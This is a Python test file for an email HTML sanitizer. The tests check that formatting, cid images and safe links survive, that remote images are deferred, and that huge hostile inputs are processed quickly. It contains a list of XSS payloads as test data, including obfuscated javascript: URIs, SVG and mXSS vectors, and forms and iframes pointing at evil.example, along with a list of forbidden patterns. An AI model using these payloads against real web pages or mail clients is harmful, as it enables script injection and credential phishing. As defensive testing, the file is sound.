"""The sanitize step: mail HTML keeps its formatting and loses anything that runs or loads."""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest

from mailgate.parse import parse_message
from mailgate.steps.sanitize import LINK_REL, sanitize_html
from tests.mailgate.build import inbound

# What must never reach a browser from a mail, in any spelling.
FORBIDDEN = (
    "<script",
    "onerror",
    "onload",
    "onclick",
    "javascript:",
    "expression(",
    "style=",
    "<base",
    "<meta",
    "<svg",
    "<iframe",
    "<form",
    "<input",
    "<object",
    "<embed",
    "<link",
    "data:",
    ' src="http',
    ' src="//',
    ' href="//',
)


def safe(html: str, **limits: int) -> str:
    return sanitize_html(inbound(html=html), **limits).safe_html


def assert_harmless(html: str) -> None:
    lowered = html.lower()
    for needle in FORBIDDEN:
        assert needle not in lowered, needle


@pytest.mark.parametrize(
    "vector",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        '<img src="x" onerror="alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
        '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href=" javascript:alert(1)">x</a>',
        "<svg onload=alert(1)><circle r=1 /></svg>",
        "<svg><script>alert(1)</script></svg>",
        '<div style="width:expression(alert(1))">x</div>',
        '<p style="background:url(https://evil.example/t.gif)">x</p>',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<iframe src="https://evil.example/"></iframe>',
        '<form action="https://evil.example/"><input name="password"></form>',
        '<object data="https://evil.example/x.swf"></object>',
        '<embed src="https://evil.example/x.swf">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        "<body onload=alert(1)>text</body>",
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<<script>alert(1);//<</script>",
        '<img src="//evil.example/t.gif">',
        '<a href="//evil.example/">x</a>',
    ],
)
def test_classic_xss_vectors_are_gone(vector: str) -> None:
    assert_harmless(safe(f"<p>Hello</p>{vector}<p>Bye</p>"))


def test_mail_formatting_is_kept() -> None:
    html = (
        '<div dir="ltr"><p>Hi <b>Ann</b>, <i>see</i> <u>below</u>:</p>'
        "<ul><li>one</li><li>two</li></ul><blockquote>quoted</blockquote>"
        '<table border="1"><tbody><tr><td colspan="2">cell</td></tr></tbody></table>'
        '<font color="#ff0000">red</font><pre><code>x = 1</code></pre><hr></div>'
    )

    assert safe(html) == html


def test_links_keep_safe_targets_and_get_rel() -> None:
    html = (
        '<a href="https://example.org/faq">faq</a> <a href="mailto:it@acme.test">mail</a> '
        '<a href="tel:+4930123456">call</a>'
    )

    assert safe(html) == (
        f'<a href="https://example.org/faq" rel="{LINK_REL}">faq</a> '
        f'<a href="mailto:it@acme.test" rel="{LINK_REL}">mail</a> '
        f'<a href="tel:+4930123456" rel="{LINK_REL}">call</a>'
    )


def test_remote_images_are_not_loaded_but_their_address_is_kept() -> None:
    html = '<img src="https://tracker.example.net/open.gif?u=42" width="1" alt="a > b">'

    assert safe(html) == (
        '<img data-remote-src="https://tracker.example.net/open.gif?u=42" width="1" alt="a &gt; b">'
    )


def test_inline_cid_images_are_kept_and_data_images_dropped() -> None:
    html = '<img src="cid:image001.png@01DB8C2D.3F4A5B60"><img src="data:image/png;base64,iVBO">'

    assert safe(html) == '<img src="cid:image001.png@01DB8C2D.3F4A5B60"><img>'


def test_links_past_the_limit_lose_their_target() -> None:
    html = "".join(f'<a href="https://example.org/{n}">{n}</a>' for n in range(5))

    result = safe(html, max_links=3)

    assert result.count("href=") == 3
    assert f'<a rel="{LINK_REL}">4</a>' in result


def test_html_past_the_size_limit_is_cut_before_a_tag() -> None:
    html = "<p>" + "é" * 100 + "</p><p><b>bold</b></p>"

    # The cut falls before the last tag that begins within the 210 bytes.
    assert safe(html, max_html_bytes=210) == "<p>" + "é" * 100 + "</p>"


def test_a_mail_without_html_has_no_safe_html() -> None:
    assert safe("") == ""
    assert safe("  \r\n") == ""


def test_a_document_keeps_its_body_and_loses_its_head() -> None:
    html = (
        "<html><head><title>Notice</title><style>p { color: red }</style></head>"
        "<body><p>Body text</p></body></html>"
    )

    assert safe(html) == "<p>Body text</p>"


def test_a_phishing_mail_is_shown_harmless(eml: Callable[[str], bytes]) -> None:
    msg = sanitize_html(parse_message(eml("steps/phishing_html_xss_vectors")))

    assert_harmless(msg.safe_html)
    assert "Your mailbox is almost full." in msg.safe_html
    assert 'data-remote-src="https://tracker.evil.example/open.gif?u=42"' in msg.safe_html
    assert '<img src="cid:logo.png@01DB8C2D.3F4A5B60" alt="Logo">' in msg.safe_html
    assert f'<a href="https://help.example.org/faq" rel="{LINK_REL}">FAQ</a>' in msg.safe_html


def test_a_newsletters_remote_images_wait_for_a_click(eml: Callable[[str], bytes]) -> None:
    msg = sanitize_html(parse_message(eml("html_only_newsletter_no_text_part")))

    assert msg.safe_html.count("data-remote-src=") == msg.html.lower().count("<img")
    assert_harmless(msg.safe_html)


@pytest.mark.parametrize(
    "hostile",
    [
        "<div>" * 400_000,
        "<ul><li>" * 250_000,
        "<blockquote><div>" * 120_000,
        "<a href='https://x.example/'><div>" * 70_000,
        "<table><tr><td><div>" * 80_000,
        "<div " + " ".join(f"a{n}" for n in range(250_000)) + ">x</div>",
        "<div" + "".join(f"/a{n}" for n in range(250_000)) + ">x</div>",
        "<div " + " ".join(f'a{n}="1>2"' for n in range(150_000)) + ">x</div>",
        "<b><p></b></p>" * 140_000,
        "&amp;" * 400_000,
    ],
    ids=[
        "nested divs",
        "nested lists",
        "nested quotes",
        "links around divs",
        "nested tables",
        "many attributes",
        "attributes split by slashes",
        "quoted attributes holding >",
        "misnested formatting",
        "entities",
    ],
)
def test_hostile_two_megabyte_html_is_sanitized_quickly(hostile: str) -> None:
    started = time.perf_counter()

    safe(hostile)

    assert time.perf_counter() - started < 2
